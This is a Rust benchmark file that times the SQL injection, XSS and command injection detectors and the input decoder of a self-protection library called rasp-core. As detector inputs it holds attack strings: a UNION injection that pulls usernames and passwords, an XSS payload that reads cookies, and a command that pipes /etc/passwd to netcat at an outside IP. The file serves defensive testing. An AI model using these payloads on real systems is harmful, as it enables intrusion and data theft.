//! Each detector on values of 16, 100 and 1,000 bytes: benign text that the
//! pre-filter clears, benign text that reaches the model, and attacks.
//!
//! `cargo bench -p rasp-core --bench detectors`

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rasp_core::{CommandInjection, ValueDetector};

fn sized(seed: &str, n: usize) -> String {
    let mut s = String::new();
    while s.len() < n {
        s.push_str(seed);
    }
    s.truncate(n);
    s
}

fn bench(c: &mut Criterion) {
    let (sqli, xss) = rasp_core::ml::builtin();
    let cmd = CommandInjection::system();
    let inputs = [
        ("word", "Supercalifragilisticexpialidocious"),
        (
            "text",
            "It's 5 o'clock, select your plan and drop me a line; thanks! ",
        ),
        (
            "sqli",
            "1' union select username, password from users where 1=1-- ",
        ),
        (
            "xss",
            "<img src=x onerror=alert(document.cookie)><svg onload=alert(1)>",
        ),
    ];
    for (det_name, det) in [
        ("sqli", sqli.as_ref() as &dyn ValueDetector),
        ("xss", xss.as_ref()),
    ] {
        let mut g = c.benchmark_group(format!("detector/{det_name}"));
        for (kind, seed) in inputs {
            for n in [16usize, 100, 1000] {
                let v = sized(seed, n);
                g.throughput(Throughput::Bytes(n as u64));
                g.bench_with_input(BenchmarkId::new(kind, n), &v, |b, v| {
                    b.iter(|| det.score(black_box(v)))
                });
            }
        }
        g.finish();
    }
    // The grammatical second reading of a borderline SQLi score. Prose that
    // parses nowhere, with both quotes in even numbers (every context is
    // tried: the slowest case), and an injection with balanced quotes (the
    // first context parses); whole units padded with spaces, so that no cut
    // leaves an odd quote (settled at once, without parsing). 500 bytes is
    // near the length bound (the longest parsed), 1,000 past it: not parsed.
    let mut g = c.benchmark_group("detector/sqli_grammar");
    for (kind, unit) in [
        ("prose", "Press 'Select', then \"Drop\" it "),
        ("sqli", "' or 'x'='x "),
    ] {
        for n in [16usize, 100, 500, 2000] {
            let mut v = unit.repeat((n / unit.len()).max(1));
            while v.len() < n {
                v.push(' ');
            }
            g.throughput(Throughput::Bytes(v.len() as u64));
            g.bench_with_input(BenchmarkId::new(kind, v.len()), &v, |b, v| {
                b.iter(|| rasp_core::ml::sql_grammar::reads_as_sql(black_box(v)))
            });
        }
    }
    g.finish();
    let mut g = c.benchmark_group("detector/command");
    for (kind, seed) in [
        ("text", inputs[1].1),
        ("cmdi", "x; cat /etc/passwd | nc 10.0.0.1 4444 "),
    ] {
        for n in [16usize, 100, 1000] {
            let v = sized(seed, n);
            g.throughput(Throughput::Bytes(n as u64));
            g.bench_with_input(BenchmarkId::new(kind, n), &v, |b, v| {
                b.iter(|| cmd.is_injection(black_box(v)))
            });
        }
    }
    g.finish();
    let mut g = c.benchmark_group("decode");
    for (kind, seed) in [
        ("clean", "plain words and numbers 12345 "),
        ("encoded", "%253Cscript%253E%26lt%3B%5Cu0041 "),
    ] {
        for n in [16usize, 100, 1000] {
            let v = sized(seed, n);
            g.throughput(Throughput::Bytes(n as u64));
            g.bench_with_input(BenchmarkId::new(kind, n), &v, |b, v| {
                b.iter(|| rasp_core::decode::normalize(black_box(v)))
            });
        }
    }
    g.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().measurement_time(std::time::Duration::from_secs(2)).warm_up_time(std::time::Duration::from_millis(500));
    targets = bench
}
criterion_main!(benches);
